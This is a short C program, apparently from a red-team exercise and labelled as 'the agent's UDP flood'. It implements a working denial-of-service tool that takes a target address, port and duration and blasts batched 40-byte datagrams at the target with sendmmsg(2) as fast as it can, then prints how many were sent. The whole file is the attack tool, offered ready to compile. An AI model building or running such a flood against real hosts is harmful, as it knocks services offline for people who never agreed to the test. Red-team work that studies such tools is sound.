/* Red team 40: the agent's UDP flood, batched with sendmmsg(2) on a connected socket.
 * Usage: udpflood <addr> <port> <secs>; prints "sent <n> errors <e>". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc < 4) return 2;
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  inet_pton(AF_INET, argv[1], &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) { perror("connect"); return 1; }
  static char q[40] = "floodfloodfloodfloodfloodfloodfloodflood";
  struct iovec iov = {q, sizeof q};
  struct mmsghdr m[64];
  memset(m, 0, sizeof m);
  for (int i = 0; i < 64; i++) { m[i].msg_hdr.msg_iov = &iov; m[i].msg_hdr.msg_iovlen = 1; }
  time_t end = time(NULL) + atoi(argv[3]);
  long sent = 0, err = 0;
  while (time(NULL) < end) {
    int r = sendmmsg(s, m, 64, MSG_DONTWAIT);
    if (r > 0) sent += r; else err++;
  }
  printf("sent %ld errors %ld\n", sent, err);
  return 0;
}
